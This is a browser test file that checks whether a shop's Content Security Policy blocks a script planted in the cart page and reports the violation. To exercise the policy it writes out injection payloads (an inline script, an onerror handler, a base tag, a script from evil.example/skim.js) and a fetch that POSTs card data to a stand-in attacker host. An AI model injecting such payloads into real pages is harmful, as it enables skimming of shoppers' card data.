import type { APIRequestContext } from '@playwright/test';
import { z } from 'zod';
import { expect, sandboxUrl, test } from '../browser/fixtures.ts';
import { open } from '../browser/shopper.ts';
import { startSwitchableHost, type SwitchableHost } from './switchable-host.ts';

const arrivalsSchema = z.array(
  z.object({ number: z.int(), kind: z.string(), content: z.looseObject({ page: z.string().optional() }) }),
);

/** What the error service has been told about a page that was kept from something, the latest last. */
async function reportedAbout(request: APIRequestContext, page: string): Promise<readonly object[]> {
  const answer = await request.get(`${sandboxUrl}/telemetry/arrivals`);
  const arrivals = z.array(z.looseObject({ kind: z.string() })).parse(await answer.json());
  return arrivalsSchema
    .parse(arrivals.filter(({ kind }) => kind === 'csp'))
    .flatMap(({ content }) => (content.page?.startsWith(page) ? [content] : []));
}

test.describe('a script that somebody has planted in a page', () => {
  let host: SwitchableHost;
  test.beforeAll(async ({ baseURL }) => {
    host = await startSwitchableHost(baseURL ?? '');
  });
  test.afterAll(() => host.close());
  test.use({ expectedErrors: /Content Security Policy|content security policy/ });

  test('runs neither inline nor as an attribute nor from another site, sends nothing there, and the shop hears of it', async ({
    page,
    request,
  }) => {
    const asked: string[] = [];
    await page.route('https://evil.example/**', async (route) => {
      asked.push(route.request().url());
      await route.fulfill({
        contentType: 'text/javascript',
        body: 'document.documentElement.dataset.planted = 1',
      });
    });
    const planted = [
      '<base href="https://evil.example/">',
      '<script>document.documentElement.dataset.planted = "inline"</script>',
      '<img src="data:," onerror="document.documentElement.dataset.planted = 1">',
      '<script src="https://evil.example/skim.js"></script>',
    ].join('');
    host.deploy((path, text) => (path === '/cart/' ? text.replace('<body>', `<body>${planted}`) : text));
    await open(page, `${host.origin}/cart/`);
    expect(await page.locator('html').getAttribute('data-planted')).toBeNull();
    expect(await page.evaluate(() => document.baseURI)).toBe(`${host.origin}/cart/`);
    const sent = await page.evaluate(() =>
      fetch('https://evil.example/collect', { method: 'POST', body: 'a card' }).then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(sent).toBe('refused');
    expect(asked).toEqual([]);

    await page.goto('about:blank');
    const refusals = [
      { blocked: 'inline', sample: expect.stringContaining('planted') },
      { blocked: expect.stringContaining('https://evil.example') },
    ];
    for (const refusal of refusals)
      await expect
        .poll(() => reportedAbout(request, `${host.origin}/cart/`))
        .toContainEqual(expect.objectContaining({ directive: 'script-src-elem', ...refusal }));
  });
});
